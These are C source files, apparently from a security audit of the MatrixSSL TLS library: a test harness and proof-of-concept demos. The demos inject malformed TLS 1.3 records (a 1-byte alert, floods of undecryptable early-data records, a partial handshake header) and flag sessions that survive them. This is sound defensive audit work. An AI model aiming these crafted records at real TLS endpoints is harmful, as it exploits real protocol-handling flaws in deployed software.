            ((first >= 0 && first != MATRIXSSL_REQUEST_RECV && first != MATRIXSSL_RECEIVED_ALERT && n == 0) ? "(tolerated)" : ""));
        matrixSslDeleteSession(cli.ssl); matrixSslDeleteSession(srv.ssl);
    }
    return 0;
}
