/* exploratory: authenticated (sealed with real keys) TLS 1.3 events */
#include "../demo/common.h"
#include "matrixssl/matrixssllib.h"
static int craft13(ssl_t *peer, unsigned char innerType,
        const unsigned char *content, int contentLen, int pad, unsigned char *out)
{
    int ptLen = contentLen + 1 + pad;
    int recLen = ptLen + 16;
    out[0] = 0x17; out[1] = 3; out[2] = 3; out[3] = recLen >> 8; out[4] = recLen & 0xff;
    memcpy(out + 5, content, contentLen);
    out[5 + contentLen] = innerType;
    memset(out + 5 + contentLen + 1, 0, pad);
    peer->outRecType = 0x17;
    peer->outRecLen = recLen;
    if (peer->encrypt(peer, out + 5, out + 5, ptLen) < 0) return -1;
    return 5 + recLen;
}
typedef struct { const char *name; unsigned char type; unsigned char b[40]; int len; int pad; } ev_t;
static ev_t evs[] = {
    {"alert 1 byte", 21, {2}, 1, 0},
    {"alert 0 byte", 21, {0}, 0, 0},
    {"alert 3 byte", 21, {1,0,0x55}, 3, 0},
    {"alert warn user_canceled", 21, {1,90}, 2, 0},
    {"alert lvl1 desc 255", 21, {1,255}, 2, 0},
    {"hs 1 byte", 22, {4}, 1, 0},
    {"hs 3 byte", 22, {4,0,0}, 3, 0},
    {"hs keyupdate", 22, {24,0,0,1,0}, 5, 0},
    {"hs hdr only nst len 5", 22, {4,0,0,5}, 4, 0},
    {"inner type 24", 24, {1,2,3}, 3, 0},
    {"inner type 20 ccs", 20, {1}, 1, 0},
    {"inner type 0x99", 0x99, {1}, 1, 0},
    {"app empty", 23, {0}, 0, 0},
    {"app empty padded", 23, {0}, 0, 5},
    {"all zero", 0, {0}, 0, 4},
};
int main(void)
{
    sslKeys_t *keys; side_t cli, srv, *victim, *peer;
    static unsigned char wire[65536]; unsigned char rec[128];
    int who, e, n; int32_t first, enc, f2;
    sslSessOpts_t co, so; psProtocolVersion_t v[1] = { v_tls_1_3 };
    matrixSslOpen(); keys = loadRsaKeys();
    for (who = 0; who < 2; who++)
    for (e = 0; e < (int)(sizeof(evs)/sizeof(evs[0])); e++)
    {
        memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
        cli.name = "client"; srv.name = "server";
        memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
        matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
        matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
        matrixSslNewServerSession(&srv.ssl, keys, NULL, &so);
        matrixSslNewClientSession(&cli.ssl, keys, NULL, NULL, 0, certCb, NULL, NULL, NULL, &co);
        if (handshake(&cli, &srv) < 0) { printf("hs fail\n"); return 2; }
        victim = who ? &srv : &cli; peer = who ? &cli : &srv;
        n = craft13(peer->ssl, evs[e].type, evs[e].b, evs[e].len, evs[e].pad, rec);
        feed(victim, rec, n, &first);
        n = matrixSslGetOutdata(victim->ssl, NULL);
        int errAfter = !!(victim->ssl->flags & SSL_FLAGS_ERROR);
        enc = matrixSslEncodeToOutdata(victim->ssl, (unsigned char *)"x", 1);
        n = sendApp(peer, "PEERDATA", wire, sizeof(wire));
        victim->appLen = 0; f2 = 0;
        if (n > 0) feed(victim, wire, n, &f2);
        printf("%-6s %-26s rc=%4d err=%d closed=%d enc=%4d nextRecv=%4d delivered=%d %s\n",
            victim->name, evs[e].name, first, errAfter, !!(victim->ssl->flags & SSL_FLAGS_CLOSED),
            enc, f2, victim->appLen,
            ((first < 0 || first == MATRIXSSL_RECEIVED_ALERT) && (enc > 0 || victim->appLen > 0)) ? "<<<<< SUSPECT" :
            (first >= 0 && first != MATRIXSSL_RECEIVED_ALERT && first != MATRIXSSL_REQUEST_SEND ? "(tolerated)" : ""));
    }
    return 0;
}
