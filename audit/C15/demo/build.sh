#!/bin/sh
# Builds all demos against the static libraries of the worktree (run `make -j8` at top level first)
set -e
cd "$(dirname "$0")"
TOP=../..
CFLAGS="-I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -I$TOP -O1 -g -Wall -Wno-unused-function -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for d in demo*.c; do
    b=${d%.c}
    cc $CFLAGS -o $b $d $LIBS
    echo "built $b"
done
