/* Shared in-memory client/server harness for the C15 audit demos.
   Drives the real, unmodified MatrixSSL public API. */
#ifndef C15_COMMON_H
#define C15_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: certificate validation is not what is being audited */
}

typedef struct
{
    ssl_t *ssl;
    const char *name;
    int hsComplete;
    unsigned char app[65536]; /* application data delivered to this side */
    int appLen;
    int lastAlertLevel, lastAlertDesc;
} side_t;

/* Feed `len` wire bytes into `s`. Returns the LAST return code obtained from
   matrixSslReceivedData / matrixSslProcessedData; delivered application data
   is appended to s->app.  *firstRc gets the very first return code. */
static int32_t feed(side_t *s, const unsigned char *data, int len, int32_t *firstRc)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32_t rc, room;
    int first = 1;

    room = matrixSslGetReadbufOfSize(s->ssl, len, &buf);
    if (room < len)
    {
        printf("  [%s] no room in readbuf (%d)\n", s->name, room);
        if (firstRc) *firstRc = -999;
        return -999;
    }
    memcpy(buf, data, len);
    rc = matrixSslReceivedData(s->ssl, len, &pt, &ptLen);
    for (;;)
    {
        if (first && firstRc) { *firstRc = rc; }
        first = 0;
        if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
        {
            memcpy(s->app + s->appLen, pt, ptLen);
            s->appLen += ptLen;
            rc = matrixSslProcessedData(s->ssl, &pt, &ptLen);
            continue;
        }
        if (rc == MATRIXSSL_RECEIVED_ALERT)
        {
            s->lastAlertLevel = pt[0];
            s->lastAlertDesc = pt[1];
            rc = matrixSslProcessedData(s->ssl, &pt, &ptLen);
            if (rc == 0) { rc = MATRIXSSL_RECEIVED_ALERT; break; }
            continue;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            s->hsComplete = 1;
        }
        break;
    }
    return rc;
}

/* Take everything `s` wants to send; returns number of bytes copied to out */
static int drain(side_t *s, unsigned char *out, int outSize)
{
    unsigned char *buf;
    int32_t n, rc;
    int total = 0;

    while ((n = matrixSslGetOutdata(s->ssl, &buf)) > 0)
    {
        if (total + n > outSize) { printf("drain overflow\n"); exit(2); }
        memcpy(out + total, buf, n);
        total += n;
        rc = matrixSslSentData(s->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { s->hsComplete = 1; }
        if (rc == MATRIXSSL_REQUEST_CLOSE) { break; }
    }
    return total;
}

/* Pump the handshake until both sides report completion. */
static int handshake(side_t *cli, side_t *srv)
{
    static unsigned char wire[65536];
    int i, n, idle = 0;
    int32_t rc;

    for (i = 0; i < 40 && idle < 2; i++)
    {
        int moved = 0;
        n = drain(cli, wire, sizeof(wire));
        if (n > 0)
        {
            moved = 1;
            rc = feed(srv, wire, n, NULL);
            if (rc < 0) { printf("  server hs error %d\n", rc); return -1; }
        }
        n = drain(srv, wire, sizeof(wire));
        if (n > 0)
        {
            moved = 1;
            rc = feed(cli, wire, n, NULL);
            if (rc < 0) { printf("  client hs error %d\n", rc); return -1; }
        }
        idle = moved ? 0 : idle + 1;
        if (cli->hsComplete && srv->hsComplete && !moved) break;
    }
    return (cli->hsComplete && srv->hsComplete) ? 0 : -1;
}

/* Encrypt application data on `from`, return the wire bytes. */
static int sendApp(side_t *from, const char *msg, unsigned char *wire, int wireSize)
{
    int32_t rc = matrixSslEncodeToOutdata(from->ssl, (unsigned char *) msg,
            (uint32) strlen(msg));
    if (rc < 0) { return rc; }
    return drain(from, wire, wireSize);
}

static sslKeys_t *loadRsaKeys(void)
{
    sslKeys_t *keys = NULL;
    if (matrixSslNewKeys(&keys, NULL) < 0) { return NULL; }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE,
                RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("key load failed\n");
        return NULL;
    }
    return keys;
}

static void hexdump(const char *label, const unsigned char *p, int n)
{
    int i;
    printf("%s", label);
    for (i = 0; i < n; i++) printf("%02x ", p[i]);
    printf("\n");
}

#endif
