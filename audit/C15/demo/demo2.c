/* demo2: TLS 1.3 server, early data offered by the client but NOT accepted.
   tls13Decode.c matrixSslDecodeTls13(), decrypt-failure branch: every
   undecryptable record is charged (rec.len - 16 - 1) bytes against
   tls13SessionMaxEarlyData.  A 17-byte record is charged 0 (and shorter ones
   are charged a negative amount), so the "configured limit" on tolerated
   undecryptable records is never reached: the server silently drops any
   number of them - even with the limit configured as 0 - and then completes
   the handshake and delivers application data. */
#include "common.h"
#include "matrixssl/matrixssllib.h"

static const unsigned char psk[32] = {
    1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31,32 };
static const unsigned char pskId[8] = { 'c','1','5','-','p','s','k','!' };

static int run(unsigned limit, int nJunk)
{
    sslKeys_t *keys;
    sslSessOpts_t co, so;
    side_t cli, srv;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    psTls13SessionParams_t params;
    psCipher16_t suite[1] = { 0x1301 }; /* TLS_AES_128_GCM_SHA256 */
    static unsigned char wire[65536], flight[65536];
    unsigned char junk17[5 + 17];
    int32_t rc, first;
    int n, nFlight, i, tolerated = 0;
    unsigned long junkBytes = 0;

    keys = loadRsaKeys();
    if (!keys) return 2;
    memset(&params, 0, sizeof(params));
    params.maxEarlyData = 16384;  /* PSK allows early data => client offers early_data */
    params.cipherId = 0x1301;
    if (matrixSslLoadTls13Psk(keys, psk, sizeof(psk), pskId, sizeof(pskId), &params) < 0)
    {
        printf("psk load failed\n"); return 2;
    }

    memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
    cli.name = "client"; srv.name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    so.tls13SessionMaxEarlyData = limit; /* the configured limit */

    if (matrixSslNewServerSession(&srv.ssl, keys, NULL, &so) < 0) return 2;
    rc = matrixSslNewClientSession(&cli.ssl, keys, NULL, suite, 1, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); return 2; }

    /* ClientHello (with early_data + pre_shared_key) -> server */
    n = drain(&cli, wire, sizeof(wire));
    rc = feed(&srv, wire, n, NULL);
    nFlight = drain(&srv, flight, sizeof(flight));
    printf("limit=%u: server parsed ClientHello (rc=%d), flight of %d bytes; "
           "got_early_data=%d earlyDataAccepted=%d\n", limit, rc, nFlight,
           srv.ssl->extFlags.got_early_data, srv.ssl->tls13ServerEarlyDataEnabled);

    /* Undecryptable records, far more bytes than the configured limit */
    junk17[0] = 0x17; junk17[1] = 3; junk17[2] = 3; junk17[3] = 0; junk17[4] = 17;
    memset(junk17 + 5, 0x5A, 17);
    for (i = 0; i < nJunk; i++)
    {
        rc = feed(&srv, junk17, sizeof(junk17), &first);
        if (first < 0 || matrixSslGetOutdata(srv.ssl, NULL) > 0 ||
            (srv.ssl->flags & SSL_FLAGS_ERROR))
        {
            printf("  record %d: rc=%d -> server gave up\n", i, first);
            break;
        }
        tolerated++;
        junkBytes += sizeof(junk17);
    }
    printf("  %d undecryptable records = %lu wire bytes tolerated, byte counter "
           "tls13ReceivedEarlyDataLen=%u\n", tolerated, junkBytes,
           (unsigned) srv.ssl->tls13ReceivedEarlyDataLen);

    /* continuation: finish the handshake and exchange data */
    rc = feed(&cli, flight, nFlight, NULL);
    n = drain(&cli, wire, sizeof(wire));
    rc = feed(&srv, wire, n, &first);
    n = drain(&srv, wire, sizeof(wire));
    if (n > 0) feed(&cli, wire, n, NULL);
    n = sendApp(&cli, "after-junk", wire, sizeof(wire));
    if (n > 0) rc = feed(&srv, wire, n, NULL);
    printf("  client Finished -> server rc=%d; app data delivered to server: "
           "%d bytes (%.*s)\n", first, srv.appLen, srv.appLen, srv.app);

    if (tolerated == nJunk && srv.appLen > 0)
    {
        printf("VIOLATION: server tolerated %d undecryptable records = %lu bytes "
               "(configured limit %u), reported success for each, and the "
               "session went on to deliver application data\n", tolerated, junkBytes, limit);
        return 1;
    }
    printf("OK: limit=%u: server gave up after %d undecryptable records\n",
           limit, tolerated);
    return 0;
}

/* Part B: the tolerance is not tied to the skipping phase.  RFC 8446 4.2.10:
   the server skips records that fail deprotection only until one deprotects
   successfully (start of the client's second flight).  Here the client's
   second flight is Certificate / CertificateVerify / Finished in separate
   records; an undecryptable record injected AFTER the Certificate record was
   decrypted and processed is still dropped silently. */
static int runB(void)
{
    sslKeys_t *ckeys, *skeys;
    sslSessOpts_t co, so;
    side_t cli, srv;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    psTls13SessionParams_t params;
    static unsigned char wire[65536], flight[65536];
    unsigned char junk[5 + 100];
    int32_t rc, first, rcJunk;
    int n, nFlight, off, recLen, recNo = 0, hsBefore;

    ckeys = loadRsaKeys(); skeys = loadRsaKeys();
    memset(&params, 0, sizeof(params));
    params.maxEarlyData = 16384;
    params.cipherId = 0x1301;
    /* only the client knows this PSK: the server falls back to a full
       certificate handshake, but the ClientHello still carries early_data */
    matrixSslLoadTls13Psk(ckeys, psk, sizeof(psk), pskId, sizeof(pskId), &params);

    memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
    cli.name = "client"; srv.name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    so.tls13SessionMaxEarlyData = 16384;
    rc = matrixSslNewServerSession(&srv.ssl, skeys, certCb, &so); /* client auth */
    if (rc < 0) { printf("partB: server new %d\n", rc); return 2; }
    rc = matrixSslNewClientSession(&cli.ssl, ckeys, NULL, NULL, 0, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("partB: client new %d\n", rc); return 2; }

    n = drain(&cli, wire, sizeof(wire));
    rc = feed(&srv, wire, n, NULL);
    nFlight = drain(&srv, flight, sizeof(flight));
    rc = feed(&cli, flight, nFlight, NULL);
    n = drain(&cli, wire, sizeof(wire)); /* client's second flight */
    printf("partB: client second flight %d bytes; server got_early_data=%d usingPsk=%d\n",
           n, srv.ssl->extFlags.got_early_data, srv.ssl->sec.tls13UsingPsk);

    junk[0] = 0x17; junk[1] = 3; junk[2] = 3; junk[3] = 0; junk[4] = 100;
    memset(junk + 5, 0xA5, 100);
    rcJunk = -999;
    for (off = 0; off + 5 <= n; off += recLen)
    {
        recLen = 5 + ((wire[off + 3] << 8) | wire[off + 4]);
        hsBefore = srv.ssl->hsState;
        rc = feed(&srv, wire + off, recLen, &first);
        printf("  client record %d (type %d, %d bytes): rc=%d hsState %d -> %d\n",
               recNo, wire[off], recLen, first, hsBefore, srv.ssl->hsState);
        if (wire[off] == 0x17 && rcJunk == -999 && srv.ssl->hsState != hsBefore)
        {
            /* first protected client record was decrypted and advanced the
               state machine: now the corrupt record */
            rc = feed(&srv, junk, sizeof(junk), &rcJunk);
            printf("  injected undecryptable record: rc=%d, pending alert bytes=%d, "
                   "error flag=%d\n", rcJunk, matrixSslGetOutdata(srv.ssl, NULL),
                   !!(srv.ssl->flags & SSL_FLAGS_ERROR));
        }
        recNo++;
    }
    n = drain(&srv, wire, sizeof(wire));
    if (n > 0) feed(&cli, wire, n, NULL);
    n = sendApp(&cli, "after-corrupt-record", wire, sizeof(wire));
    if (n > 0) feed(&srv, wire, n, NULL);
    printf("  app data delivered to server afterwards: %d bytes (%.*s)\n",
           srv.appLen, srv.appLen, srv.app);
    if (rcJunk >= 0 && srv.appLen > 0)
    {
        printf("VIOLATION: decryption error after the client's second flight had "
               "started was reported as success (rc=%d) and the session later "
               "delivered application data\n", rcJunk);
        return 1;
    }
    printf("OK: partB: the undecryptable record after the start of the client's "
           "second flight ended the session\n");
    return 0;
}

/* Control: honest client that offers early data, really sends some, is
   rejected by the server (which has to skip it) and completes the handshake */
static int runControl(void)
{
    sslKeys_t *keys;
    sslSessOpts_t co, so;
    side_t cli, srv;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    psTls13SessionParams_t params;
    psCipher16_t suite[1] = { 0x1301 };
    static unsigned char wire[65536];
    int32_t rc;
    int n;

    keys = loadRsaKeys();
    memset(&params, 0, sizeof(params));
    params.maxEarlyData = 16384;
    params.cipherId = 0x1301;
    matrixSslLoadTls13Psk(keys, psk, sizeof(psk), pskId, sizeof(pskId), &params);
    memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
    cli.name = "client"; srv.name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    so.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&srv.ssl, keys, NULL, &so) < 0) return 2;
    rc = matrixSslNewClientSession(&cli.ssl, keys, NULL, suite, 1, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) return 2;
    /* real early data, three records, one of them empty-ish small */
    rc = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "early-data-1", 12);
    rc = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "e", 1);
    rc = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "early-data-3-longer-record", 26);
    if (handshake(&cli, &srv) < 0)
    {
        printf("CONTROL FAILED: honest rejected-early-data handshake did not complete\n");
        return 2;
    }
    n = sendApp(&cli, "control", wire, sizeof(wire));
    if (n > 0) feed(&srv, wire, n, NULL);
    printf("control: honest client with rejected early data (encode rc=%d): handshake "
           "complete, early data delivered to app=%s, 1-RTT data delivered: %.*s\n",
           rc, srv.appLen > 7 ? "YES(!)" : "no", srv.appLen, srv.app);
    return (srv.appLen == 7 && !memcmp(srv.app, "control", 7)) ? 0 : 2;
}

int main(void)
{
    int v = 0;
    if (matrixSslOpen() < 0) return 2;
    v |= run(16384, 20000); /* 440000 wire bytes, 20000 records */
    v |= run(0, 1000);      /* early data "disabled" by a zero limit: still tolerated */
    v |= runB();
    if (runControl() != 0) { printf("control case failed\n"); return 2; }
    return v ? 1 : 0;
}
