/* demo1: TLS 1.3 - an alert record whose body is a single byte is an illegal
   message, yet matrixSslReceivedData() reports 0 (PS_SUCCESS), no alert is
   produced, the session is not flagged, and it keeps encrypting application
   data.  The record is plaintext and accepted at any point of the session
   life (also after the handshake, when every record must be protected). */
#include "common.h"

int main(void)
{
    sslKeys_t *keys;
    sslSessOpts_t co, so;
    side_t cli, srv;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    static unsigned char wire[65536];
    const unsigned char evil[6] = { 0x15, 0x03, 0x03, 0x00, 0x01, 0x02 };
    int32_t rc, first, enc;
    int n, violation = 0;

    if (matrixSslOpen() < 0) return 2;
    keys = loadRsaKeys();
    if (!keys) return 2;

    memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
    cli.name = "client"; srv.name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);

    if (matrixSslNewServerSession(&srv.ssl, keys, NULL, &so) < 0) return 2;
    rc = matrixSslNewClientSession(&cli.ssl, keys, NULL, NULL, 0, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("client new: %d\n", rc); return 2; }
    if (handshake(&cli, &srv) < 0) { printf("handshake failed\n"); return 2; }
    printf("TLS 1.3 handshake complete\n");

    /* sanity: data flows */
    n = sendApp(&cli, "hello", wire, sizeof(wire));
    rc = feed(&srv, wire, n, NULL);
    printf("sanity: server got %d app bytes, rc=%d\n", srv.appLen, rc);

    /* The error-inducing event: plaintext alert record with a 1-byte body */
    hexdump("inject into server: ", evil, 6);
    rc = feed(&srv, evil, 6, &first);
    printf("matrixSslReceivedData returned %d (0 == PS_SUCCESS)\n", first);
    n = matrixSslGetOutdata(srv.ssl, NULL);
    printf("server outdata pending after event: %d bytes (an alert would be >0)\n", n);

    /* continuation: API call to send */
    enc = matrixSslEncodeToOutdata(srv.ssl, (unsigned char *) "secret-after-error", 18);
    printf("matrixSslEncodeToOutdata after the event returned %d\n", enc);

    if (first == 0 && n == 0)
    {
        printf("VIOLATION: illegal 1-byte alert record: matrixSslReceivedData "
               "reported %d (success), not an error/close\n", first);
        violation = 1;
    }
    if (enc > 0)
    {
        n = drain(&srv, wire, sizeof(wire));
        cli.appLen = 0;
        rc = feed(&cli, wire, n, NULL);
        printf("VIOLATION: server still encrypted %d wire bytes of application "
               "data after the illegal record; client decrypted %d bytes: %.*s\n",
               n, cli.appLen, cli.appLen, cli.app);
        violation = 1;
    }

    /* Same event on the client side */
    rc = feed(&cli, evil, 6, &first);
    n = matrixSslGetOutdata(cli.ssl, NULL);
    enc = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "x", 1);
    printf("client: ReceivedData=%d pending alert bytes=%d EncodeToOutdata=%d\n",
           first, n, enc);
    if ((first == 0 && n == 0) || enc > 0)
    {
        printf("VIOLATION: client side behaves the same (rc=%d, still encrypts)\n", first);
        violation = 1;
    }
    if (!violation)
    {
        printf("OK: the 1-byte alert record ended the session on both sides "
               "(alert queued, no further encryption)\n");
    }
    return violation ? 1 : 0;
}
