/* demo3: TLS 1.3 - a protected handshake record whose content is (or ends in)
   a partial handshake header (1..3 bytes) hits the "no progress" exit added
   to the handshake loop of matrixSslDecodeTls13() (tls13Decode.c, `if (p_start
   == p) return PS_FAILURE;`).  That return bypasses encodeResponse: no alert
   is produced, SSL_FLAGS_ERROR is not set.  matrixSslReceivedData() reports
   an error for this one call, but the session is not dead: it goes on
   encrypting application data.
   The malicious record is produced with the peer's real traffic keys (the
   peer is the attacker here); the victim is driven through the public API
   only. */
#include "common.h"
#include "matrixssl/matrixssllib.h"

/* Seal `content || innerType` with the write keys of `peer` */
static int craft13(ssl_t *peer, unsigned char innerType,
        const unsigned char *content, int contentLen, unsigned char *out)
{
    int ptLen = contentLen + 1;
    int recLen = ptLen + 16;
    out[0] = 0x17; out[1] = 3; out[2] = 3; out[3] = recLen >> 8; out[4] = recLen & 0xff;
    memcpy(out + 5, content, contentLen);
    out[5 + contentLen] = innerType;
    peer->outRecType = 0x17;
    peer->outRecLen = recLen;
    if (peer->encrypt(peer, out + 5, out + 5, ptLen) < 0) return -1;
    return 5 + recLen;
}

int main(void)
{
    sslKeys_t *keys;
    sslSessOpts_t co, so;
    side_t cli, srv;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    static unsigned char wire[65536];
    unsigned char rec[64];
    const unsigned char partialHdr[2] = { 0x04, 0x00 }; /* 2 of the 4 header bytes */
    int32_t rc, first, enc;
    int n, violation = 0;

    if (matrixSslOpen() < 0) return 2;
    keys = loadRsaKeys();
    if (!keys) return 2;
    memset(&cli, 0, sizeof(cli)); memset(&srv, 0, sizeof(srv));
    cli.name = "client"; srv.name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    if (matrixSslNewServerSession(&srv.ssl, keys, NULL, &so) < 0) return 2;
    rc = matrixSslNewClientSession(&cli.ssl, keys, NULL, NULL, 0, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) return 2;
    if (handshake(&cli, &srv) < 0) { printf("handshake failed\n"); return 2; }
    n = sendApp(&srv, "hi", wire, sizeof(wire));
    feed(&cli, wire, n, NULL);
    printf("TLS 1.3 handshake complete, client got %d app bytes\n", cli.appLen);

    /* The server (peer) sends a protected handshake record holding half a
       handshake header */
    n = craft13(srv.ssl, 22, partialHdr, 2, rec);
    rc = feed(&cli, rec, n, &first);
    printf("client: ReceivedData for the malformed handshake record = %d; "
           "alert queued: %d bytes; SSL_FLAGS_ERROR=%d\n", first,
           matrixSslGetOutdata(cli.ssl, NULL), !!(cli.ssl->flags & SSL_FLAGS_ERROR));

    /* continuation: API call to send */
    enc = matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "still-talking", 13);
    printf("client: matrixSslEncodeToOutdata after the decoding error = %d\n", enc);
    if (enc > 0)
    {
        n = drain(&cli, wire, sizeof(wire));
        srv.appLen = 0;
        feed(&srv, wire, n, NULL);
        printf("VIOLATION: after a decoding error (rc=%d, no alert, error flag "
               "clear) the session still encrypted application data; peer "
               "decrypted %d bytes: %.*s\n", first, srv.appLen, srv.appLen, srv.app);
        violation = 1;
    }
    rc = matrixSslEncodeClosureAlert(cli.ssl);
    printf("client: matrixSslEncodeClosureAlert = %d\n", rc);
    if (!violation)
    {
        printf("OK: the malformed handshake record ended the session (alert "
               "queued / error flag set, no further encryption)\n");
    }
    return violation;
}
