/* Common in-memory client/server harness for the C14 audit demos.
   Drives the unmodified MatrixSSL library through its public buffer API. */
#ifndef C14_HARNESS_H
#define C14_HARNESS_H

#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#ifndef KEYDIR
# define KEYDIR "../../testkeys"
#endif

static const char *g_srvCert = KEYDIR "/RSA/2048_RSA.pem";
static const char *g_srvKey  = KEYDIR "/RSA/2048_RSA_KEY.pem";
static const char *g_caCert  = KEYDIR "/RSA/2048_RSA_CA.pem";

typedef struct
{
    int cliDone, srvDone;       /* HANDSHAKE_COMPLETE seen */
    int cliErr, srvErr;         /* negative rc seen */
    int cliAlert, srvAlert;     /* alert received (description) */
    int cliAlertLevel, srvAlertLevel;
    unsigned char cliApp[256]; int cliAppLen; /* app data received by client */
    unsigned char srvApp[256]; int srvAppLen; /* app data received by server */
    /* wire log of what the server sent (first bytes of each record) */
    int srvRecTypes[64]; int srvHsTypes[64]; int srvRecCount;
} pumpState_t;

/* optional tamper hook: called for each chunk on its way; dir 0 = c->s, 1 = s->c.
   May modify in place. Return new length. */
typedef int (*tamper_t)(int dir, unsigned char *buf, int len, void *arg);
static tamper_t g_tamper = NULL;
static void *g_tamperArg = NULL;

static int certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: certificate validation is not what we test */
}

static void logServerRecords(pumpState_t *st, const unsigned char *buf, int len)
{
    int off = 0;
    while (off + 5 <= len && st->srvRecCount < 64)
    {
        int rlen = (buf[off + 3] << 8) | buf[off + 4];
        st->srvRecTypes[st->srvRecCount] = buf[off];
        st->srvHsTypes[st->srvRecCount] = (buf[off] == 22 && off + 5 < len) ? buf[off + 5] : -1;
        st->srvRecCount++;
        off += 5 + rlen;
    }
}

/* Feed len bytes into 'to'. Returns last rc. */
static int feed(ssl_t *to, int toIsServer, unsigned char *data, int len, pumpState_t *st)
{
    int off = 0, rc = 0;
    while (off < len)
    {
        unsigned char *rb, *pt; uint32 ptLen = 0;
        int32 rbLen = matrixSslGetReadbuf(to, &rb);
        int n;
        if (rbLen <= 0) { return -1000; }
        n = (len - off) < rbLen ? (len - off) : rbLen;
        memcpy(rb, data + off, n);
        off += n;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        for (;;)
        {
            if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                if (toIsServer)
                {
                    int k = ptLen < sizeof(st->srvApp) ? (int) ptLen : (int) sizeof(st->srvApp);
                    memcpy(st->srvApp, pt, k); st->srvAppLen = k;
                }
                else
                {
                    int k = ptLen < sizeof(st->cliApp) ? (int) ptLen : (int) sizeof(st->cliApp);
                    memcpy(st->cliApp, pt, k); st->cliAppLen = k;
                }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (toIsServer) { st->srvAlertLevel = pt[0]; st->srvAlert = pt[1]; }
                else { st->cliAlertLevel = pt[0]; st->cliAlert = pt[1]; }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            break;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            if (toIsServer) { st->srvDone = 1; } else { st->cliDone = 1; }
        }
        if (rc < 0)
        {
            if (toIsServer) { st->srvErr = rc; } else { st->cliErr = rc; }
            return rc;
        }
    }
    return rc;
}

/* Move pending output of 'from' to 'to'. Returns number of bytes moved. */
static int moveOut(ssl_t *from, ssl_t *to, int fromIsServer, pumpState_t *st)
{
    unsigned char *ob; int32 olen; int total = 0;
    while ((olen = matrixSslGetOutdata(from, &ob)) > 0)
    {
        unsigned char *copy = malloc(olen + 64);
        int n = olen, rc;
        memcpy(copy, ob, olen);
        rc = matrixSslSentData(from, olen);
